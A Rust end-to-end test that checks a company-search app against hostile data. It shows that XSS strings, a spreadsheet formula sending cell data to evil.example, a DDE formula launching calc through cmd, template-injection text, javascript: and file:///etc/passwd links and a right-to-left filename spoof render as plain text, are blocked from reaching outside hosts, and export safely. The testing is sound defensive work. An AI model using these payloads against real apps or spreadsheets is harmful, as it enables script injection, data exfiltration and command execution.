//! A service that tells what would harm a careless reader: it is shown as text, exported as text, and nothing runs.

use api::Doc;
use api::columns::{COMPANIES, Column, GridKind};
use serde_json::{Value, json};
use tests::rig::Scripted;

use crate::files;
use crate::steps::*;
use crate::window::*;

const NAMES: [&str; 6] = [
    "<img src=x onerror=\"window.harmed=1;document.title='harmed'\">",
    "=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")",
    "Acme \u{202e}gpj.exe",
    "</script><script>window.harmed=1</script>",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "{constructor.constructor('window.harmed=1')()}",
];

#[tokio::test]
async fn hostile() {
    journey("hostile", Keyring::None, async |window| {
        first_start(window).await;
        let rows = companies();
        let told = rows.clone();
        let service = Scripted::start(move |sent| match sent.target.split('?').next().unwrap_or_default() {
            "/v1/credits" => (200, json!({"status": "success", "credits": "50"})),
            "/v1/find-companies" => (200, json!({"rows": rows, "total": rows.len(), "page": 0, "size": 100})),
            _ => (200, json!({"filter": "city", "query": "x", "values": []})),
        })
        .await;
        open_connection_form(window).await;
        fill_connection(window, "Elsewhere", &service.base_url, "network.example", "any-key").await;
        window.click(&button("Connect").inside(dialog("Connect your workspace"))).await;
        window.find(&button("Workspace: Elsewhere*")).await;
        window.click(&button("Fill in an example*")).await;
        window.click(&button("Search, up to 10 credits")).await;
        loaded(window, &NAMES.len().to_string()).await;
        shown(window).await;
        outside(window, &service.base_url).await;
        exported(window, &told).await;
        assert_eq!(window.script("return window.harmed ?? null", Vec::new()).await, Value::Null, "nothing ran");
        assert_eq!(service.sent("/v1/find-companies").len(), 1, "one page was asked, once");
        let asked: Vec<_> = service.sent("").iter().map(|sent| sent.target.clone()).collect();
        assert!(asked.iter().all(|target| target.starts_with("/v1/")), "only the service's operations: {asked:?}");
    })
    .await;
}

fn companies() -> Vec<Doc> {
    let company = |(at, name): (usize, &&str)| {
        let company = json!({
            "name": name, "domain": format!("c{at}.example"), "cityName": NAMES[(at + 1) % NAMES.len()],
            "description": NAMES.join(" "), "website": "javascript:window.harmed=1", "employeeRange": "51-200",
            "networkProfile": "file:///etc/passwd", "logo": "javascript:window.harmed=1",
        });
        serde_json::from_value(company).expect("a row is an object")
    };
    NAMES.iter().enumerate().map(company).collect()
}

/// In the table, in the drawer and as bars: as the text that it is. An address that is no web address is no link.
async fn shown(window: &Window) {
    assert_eq!(window.column("Company", NAMES.len()).await, NAMES.map(tidy), "every name is shown letter by letter");
    for position in [0, 3] {
        window.click_cell(position, "Company").await;
        let drawer = region("Company details");
        window.find(&heading(&tidy(NAMES[position])).inside(drawer.clone())).await;
        window.click(&button("Close details").inside(drawer.clone())).await;
        window.gone(&drawer).await;
    }
    window.click_cell(0, "Website").await;
    assert!(window.lines().told("followed").is_empty(), "no program is opened for it");
    if window.sees(&button("Close details")).await {
        window.click(&button("Close details")).await;
    }
    let images = window.script("return [...document.images].map(({ src }) => src)", Vec::new()).await;
    let foreign =
        |src: &Value| !src.as_str().is_some_and(|src| src.starts_with("logo:") || src.contains("://logo.localhost"));
    assert!(!images.as_array().expect("a list").iter().any(foreign), "no picture but by the app's own way: {images}");
}

/// As a page shows it; a mark that would turn the text around is left out.
fn tidy(name: &str) -> String {
    name.replace('\u{202e}', "").split_whitespace().collect::<Vec<_>>().join(" ")
}

/// The page reaches nobody: not by a script, not by a picture.
async fn outside(window: &Window, address: &str) {
    const TRY: &str = "
        const [address, done] = arguments;
        const image = new Image();
        const picture = new Promise((resolve) => { image.onload = () => resolve('loaded'); image.onerror = () => resolve('refused'); });
        const answer = fetch(address + '/taken').then(() => 'answered', () => 'refused');
        const socket = new Promise((resolve) => {
            try {
                const line = new WebSocket(address.replace('http', 'ws') + '/taken');
                line.onopen = () => resolve('open');
                line.onerror = () => resolve('refused');
            } catch { resolve('refused'); }
        });
        image.src = address + '/taken.png';
        Promise.all([answer, picture, socket]).then(done);
    ";
    let tried = window.script_later(TRY, vec![json!(address)]).await;
    assert_eq!(tried, json!(["refused", "refused", "refused"]), "the page's policy lets nothing out");
}

async fn exported(window: &Window, rows: &[Doc]) {
    let columns: Vec<&Column> =
        COMPANIES.iter().filter(|column| GridKind::Companies.shown().contains(&column.key)).collect();
    for (format, ending) in [("Excel (XLSX)", "xlsx"), ("CSV", "csv")] {
        window.click(&button("Export")).await;
        let sheet = dialog("Export");
        window.click(&radio(format).inside(sheet.clone())).await;
        window.click(&button(&format!("Export {} rows", rows.len())).inside(sheet.clone())).await;
        window.says(&format!("{} rows in *", rows.len())).await;
        window.click(&button("Done").inside(sheet.clone())).await;
        window.gone(&sheet).await;
        let files = window.folders.files(&format!(".{ending}"));
        match ending {
            "xlsx" => {
                files::same("the workbook", &files::workbook(&files[0], "Companies"), &files::as_typed(&columns, rows))
            }
            _ => files::same("the CSV", &files::table(&files[0]), &files::as_text(&columns, rows)),
        }
    }
}
